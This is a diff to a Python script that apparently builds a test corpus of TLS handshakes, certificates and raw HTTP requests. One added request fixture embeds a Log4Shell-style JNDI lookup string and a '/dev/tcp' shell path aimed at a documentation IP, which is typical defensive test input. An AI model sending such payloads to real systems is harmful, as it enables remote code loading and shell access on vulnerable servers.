@@ -10,7 +10,8 @@ import sys
 
 sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "generate"))
 import segments  # noqa: E402
-from payload import http_get, tls_client_hello, tls_server_hello  # noqa: E402
+import x509  # noqa: E402
+from payload import http_get, tls12_server_hello, tls_client_hello, tls_server_hello  # noqa: E402
 
 CORPUS = pathlib.Path(__file__).parent / "corpus"
 
@@ -85,6 +86,9 @@ HELLOS = {
     "not-ascii": tls_client_hello(SEEDED, b"\xff\x00m\xc3\xbcller"),
     "long": tls_client_hello(SEEDED, b"y" * 3000),
     "server": tls_server_hello(SEEDED),
+    "certificate": tls12_server_hello(SEEDED, x509.self_signed(SEEDED, "localhost", 365)),
+    "chain": tls12_server_hello(SEEDED, x509.chain(SEEDED, "www.example.com")),
+    "der": x509.self_signed(SEEDED, "localhost", 365, "Firm")[0],
 }
 
 GET = http_get(b"www.example.com")
@@ -94,6 +98,7 @@ REQUESTS = {
     "two": GET + GET,
     "fields": b"HEAD /x?y HTTP/1.0\r\nA:\r\nhost:b:80\r\nC: d e\r\n\r\n",
     "not-ascii": b"GET / HTTP/1.1\r\nHost: m\xc3\xbc\0\r\n\r\n",
+    "addresses": b"GET /?x=${jndi:ldap://192.0.2.1:1389/a}&y=%5B2001%3Adb8%3A%3A1%5D%3A80 HTTP/1.1\r\nA: /dev/tcp/192.0.2.1/80\r\n\r\n",
     "content": b"POST / HTTP/1.1\r\nContent-Length: 1\r\n\r\nx",
 }
 
